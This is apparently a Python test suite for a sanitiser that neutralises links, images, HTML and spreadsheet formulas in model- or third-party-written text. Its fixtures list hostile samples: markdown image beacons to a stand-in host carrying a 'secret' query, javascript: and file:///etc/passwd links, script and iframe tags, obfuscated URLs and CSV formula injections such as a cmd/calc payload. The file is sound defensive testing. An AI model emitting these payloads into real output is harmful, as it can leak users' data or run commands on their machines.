"""Text that others or a model wrote, in what a person opens: rendered in two dialects, nothing is followed."""

from __future__ import annotations

import importlib
import re
import time
from collections.abc import Callable
from html.parser import HTMLParser
from typing import cast

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from senter.component.tool_talk.defusing import addresses_in, defused, without_formulas

HOST = "evil.example"
KNOWN = "https://known.example/page_(1)"
LIVE = [
    f"![a](https://{HOST}/p.png?k=secret)",
    f"![a](//{HOST}/p.png)",
    f"![a](<https://{HOST}/p q.png> 'title')",
    f"![a][r]\n\n[r]: https://{HOST}/p.png",
    f"[a\nb]: https://{HOST}/p.png 'x'\n\n![a b]",
    f"![r]\n\n> [r]: //{HOST}/p.png",
    f"![[https://{HOST}/p.png]]",
    "![[/etc/passwd]]",
    f"[click](https://{HOST}/)",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](file:///etc/passwd)",
    "[click][j]\n\n[j]: javascript:alert(1)",
    f"<https://{HOST}/x>",
    f"https://{HOST}/x?k=secret",
    f"HTTPS://{HOST}/x",
    f"www.{HOST}/x",
    f"_www.{HOST}",
    f"{HOST}/x?k=secret",
    f"<img src=https://{HOST}/p.png>",
    f"<IMG\nSRC='//{HOST}/p.png'>",
    f"<iframe src=https://{HOST}></iframe>",
    f"<svg><image href=https://{HOST}/p.png /></svg>",
    f"<link rel=stylesheet href=https://{HOST}/s.css>",
    f"<base href=https://{HOST}/>",
    f"<meta http-equiv=refresh content='0;url=https://{HOST}/'>",
    f"<p style='background:url(https://{HOST}/p.png)'>x</p>",
    f"<style>@import 'https://{HOST}/s.css';</style>",
    "<script>alert(1)</script>",
    f"<!-- --><img src=https://{HOST}/p.png>",
    f"&lt;img src=https://{HOST}/p.png&gt;",
    f"https&#58;&#47;&#x2f;{HOST}/x",
    f"&#33;[a](https://{HOST}/p.png)",
    f"https:/\\/{HOST}/x",
    f"!\u200b[a](https://{HOST}/p.png)",
    f"ht\u200btps:\u200d//{HOST}/x",
    f"\\![a](https://{HOST}/p.png)",
    f"\\\\![a](https://{HOST}/p.png)",
    f"[![a](https://{HOST}/p.png)](https://{HOST}/)",
    f"`` ![a](https://{HOST}/p.png)",
    f"```\n![a](https://{HOST}/p.png)",
    f"{KNOWN}?k=secret",
    f"[a]({KNOWN}](https://{HOST}/)",
]
GLUE = [
    "",
    " ",
    "\n",
    "\n\n",
    "!",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "\\",
    "`",
    "&",
    ":",
    "/",
    "*",
    "> ",
    "1. ",
    "| a |\n|-|\n| ",
]
FOLLOWED = re.compile(rf"(?i)\b[a-z][a-z0-9+.-]*://|(?<![^\W_])(?<![./@-])www\.|(?<![\w./@-]){re.escape(HOST)}[/?#:]")


class Tags(HTMLParser):
    """The tags of a page, and everything that could be followed."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.shown = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)

    def handle_data(self, data: str) -> None:
        self.shown += data


_PLAIN = (
    "abbr p br hr h1 h2 h3 h4 h5 h6 em strong b i code pre ul ol li blockquote table thead tbody tr th td dl dt dd div"
)
PLAIN_TAGS = frozenset(_PLAIN.split())


def commonmark(text: str) -> str:
    return cast("str", MarkdownIt("commonmark", {"html": True}).enable("table").render(text))


def python_markdown(text: str) -> str:
    render = cast("Callable[..., str]", importlib.import_module("markdown").markdown)
    return render(text, extensions=["extra", "sane_lists"])


def tags_of(page: str) -> Tags:
    tags = Tags()
    tags.feed(page)
    tags.close()
    return tags


def assert_nothing_is_followed(text: str) -> None:
    for render in (commonmark, python_markdown):
        tags = tags_of(render(text))
        assert tags.names <= PLAIN_TAGS, (render, tags.names - PLAIN_TAGS, text)
        assert not FOLLOWED.search(tags.shown), (render, tags.shown)
    assert not FOLLOWED.search(text), text
    assert tags_of(text).names == set(), text


@pytest.mark.parametrize("live", LIVE)
def test_whatever_a_program_would_follow_is_shown_as_text(live: str) -> None:
    assert_nothing_is_followed(defused(live))
    if "known" not in live:
        assert_nothing_is_followed(defused(live, {KNOWN}))


@given(st.lists(st.tuples(st.sampled_from(LIVE), st.sampled_from(GLUE), st.sampled_from(GLUE)), min_size=1, max_size=5))
@settings(max_examples=300)
def test_no_combination_comes_alive_and_doing_it_again_changes_nothing(pieces: list[tuple[str, str, str]]) -> None:
    text = "".join(before + live + after for live, before, after in pieces)
    harmless = defused(text)
    assert_nothing_is_followed(harmless)
    assert defused(harmless) == harmless


@given(st.text(alphabet="![](:<>/\\.&#;` \nahtps3w\u200b\u200d", max_size=60), st.sampled_from(LIVE))
@settings(max_examples=300)
def test_no_letters_around_it_bring_it_back(noise: str, live: str) -> None:
    for text in (noise + live + noise, live.replace("/", noise[:3] + "/", 1), live.replace("[", "[" + noise[:2])):
        assert tags_of(commonmark(defused(text))).names <= PLAIN_TAGS
        assert tags_of(python_markdown(defused(text))).names <= PLAIN_TAGS
        assert defused(defused(text)) == defused(text)


@pytest.mark.parametrize(
    "text",
    [
        "# Title\n\n**Bold** and *soft*, `code`, 1 < 2 & 3 > 2.\n\n- one [1]\n- two [2][3]\n\n| a | b |\n|---|---|\n",
        "functools.wraps copies __name__; see README.md, node.js, e.g. version 3.11/3.12 and /home/u/texts.d/a.md.",
        "Jos\u00e9 wrote: yes! [See 4] \u0645\u06cc\u200c\u062e\u0648 \U0001f468\u200d\U0001f469",
        "AT&T, Q&A: a: b, 10:30, C:\\Users\\x, and/or.",
    ],
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert defused(text) == text


@pytest.mark.parametrize("around", ["{}", "See {}.", "({}),", "**{}**", '"{}"', "1. Title: `{}`"])
def test_known_addresses_stay(around: str) -> None:
    text = around.format(KNOWN)
    assert defused(text, {KNOWN}) == text
    assert defused(text, {KNOWN[:-4]}) != text
    assert defused(text) != text


FORMULAS = ("=1+2", "@SUM(A1)", "+1+cmd|' /C calc'!A0", "-2+3", '=WEBSERVICE("ht"&"tps:"&A1)', "  =1", "=")


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("before", ["", "a,", "a;", "a\t", "a|", "a\r\n", "a\n", 'a,"', "a, "])
def test_no_cell_of_a_table_is_reckoned_out(before: str, formula: str) -> None:
    written = without_formulas(f"{before}{formula},b")
    assert written == f"{before}{formula.replace(formula.strip(), chr(39) + formula.strip())},b"
    assert without_formulas(written) == written


@pytest.mark.parametrize("table", ["a,-1,+2.5,-3 %\n-1;-1,5\n", "a=b,c@d\n", '"-1","+2"\n', "a - b\n"])
def test_numbers_and_words_of_a_table_stay(table: str) -> None:
    assert without_formulas(table) == table


def test_addresses_are_found_in_a_persons_words() -> None:
    found = addresses_in(f"Read {KNOWN}, then (http://b.example/x). And www.c.example, note: this")
    assert {KNOWN, "http://b.example/x"} <= found
    assert not any("c.example" in address for address in found)


@pytest.mark.parametrize(
    "piece",
    [
        "a",
        "a.",
        "https://",
        ":\\",
        "/",
        "[",
        "a.b-",
        "&#",
        "www.",
        "a.aa",
        "!",
        "]:",
        "<a",
        "\u200d",
        "&a",
        ":/\\",
        "\\",
        "\t",
        ", ",
        ",-1 ",
        ",+1,1",
    ],
)
def test_its_time_grows_with_the_length_alone(piece: str) -> None:
    def cost(characters: int) -> float:
        text = piece * (characters // len(piece))
        begun = time.process_time()
        without_formulas(defused(text))
        return time.process_time() - begun

    assert cost(200_000) < 0.1 + 60 * min(cost(20_000) for _ in range(3))
